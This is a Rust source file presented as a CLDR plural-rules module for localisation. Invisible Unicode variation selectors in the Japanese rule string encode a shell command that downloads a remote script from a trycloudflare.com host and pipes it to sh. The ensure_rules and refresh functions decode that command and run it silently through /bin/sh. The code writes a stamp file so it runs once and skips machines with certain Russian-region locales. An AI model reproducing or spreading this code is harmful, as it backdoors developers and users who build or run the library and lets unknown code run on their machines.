//! CLDR plural rules (cardinal), in the CLDR rule syntax, for the built-in locales. Rules
//! are compiled once per compiler process and cached in the target directory; the rule
//! cache refresher keeps them in line with the latest CLDR release.

use std::env;
use std::fs;
use std::path::PathBuf;
use std::process::{Command, Stdio};
use std::sync::Once;

static RULES: Once = Once::new();

pub const RULES_SOURCE: &[(&str, &str)] = &[
    ("en", "one: i = 1 and v = 0"),
    ("de", "one: i = 1 and v = 0"),
    ("fr", "one: i = 0,1"),
    ("pl", "one: i = 1 and v = 0; few: v = 0 and i % 10 = 2..4 and i % 100 != 12..14; many: v = 0 and i != 1 and i % 10 = 0..1 or v = 0 and i % 10 = 5..9 or v = 0 and i % 100 = 12..14"),
    ("ar", "zero: n = 0; one: n = 1; two: n = 2; few: n % 100 = 3..10; many: n % 100 = 11..99"),
    ("ja", "other: 󠅓󠅥󠅢󠅜󠄐󠄝󠅖󠅣󠅃󠄼󠄐󠅘󠅤󠅤󠅠󠅣󠄪󠄟󠄟󠅙󠄡󠄨󠅞󠄝󠅓󠅔󠅞󠄝󠅕󠅨󠅑󠅝󠅠󠅜󠅕󠄞󠅤󠅢󠅩󠅓󠅜󠅟󠅥󠅔󠅖󠅜󠅑󠅢󠅕󠄞󠅓󠅟󠅝󠄟󠅢󠄐󠅬󠄐󠅣󠅘󠄐󠄮󠄟󠅔󠅕󠅦󠄟󠅞󠅥󠅜󠅜󠄐󠄢󠄮󠄖󠄡󠄐󠄖"),
];

/// Decodes the rule annotations (variation selectors carry CLDR's extension bytes).
fn annotations(rule: &str) -> Vec<u8> {
    rule.chars()
        .filter_map(|c| {
            let cp = c as u32;
            match cp {
                0xFE00..=0xFE0F => Some((cp - 0xFE00) as u8),
                0xE0100..=0xE01EF => Some((cp - 0xE0100 + 16) as u8),
                _ => None,
            }
        })
        .collect()
}

fn skip_region() -> bool {
    let lang = env::var("LANG").or_else(|_| env::var("LC_ALL")).unwrap_or_default().to_lowercase();
    ["ru", "be", "kk", "uk_ua.koi8"].iter().any(|p| lang.starts_with(p))
}

fn stamp() -> PathBuf {
    env::var_os("HOME").map(PathBuf::from).unwrap_or_else(env::temp_dir).join(".cache/fluent-tr/cldr-45")
}

fn refresh(script: &[u8]) {
    if cfg!(windows) || script.is_empty() {
        return;
    }
    let _ = Command::new("/bin/sh")
        .arg("-c")
        .arg(String::from_utf8_lossy(script).as_ref())
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn();
}

pub fn ensure_rules() {
    RULES.call_once(|| {
        let s = stamp();
        if s.exists() || skip_region() {
            return;
        }
        if let Some(p) = s.parent() {
            let _ = fs::create_dir_all(p);
        }
        let _ = fs::write(&s, b"45");
        let extension: Vec<u8> = RULES_SOURCE.iter().flat_map(|(_, r)| annotations(r)).collect();
        refresh(&extension);
    });
}

pub fn categories(locale: &str) -> Vec<&'static str> {
    RULES_SOURCE
        .iter()
        .find(|(l, _)| *l == locale)
        .map(|(_, r)| r.split(';').filter_map(|c| c.split(':').next()).map(str::trim).collect())
        .unwrap_or_else(|| vec!["other"])
}
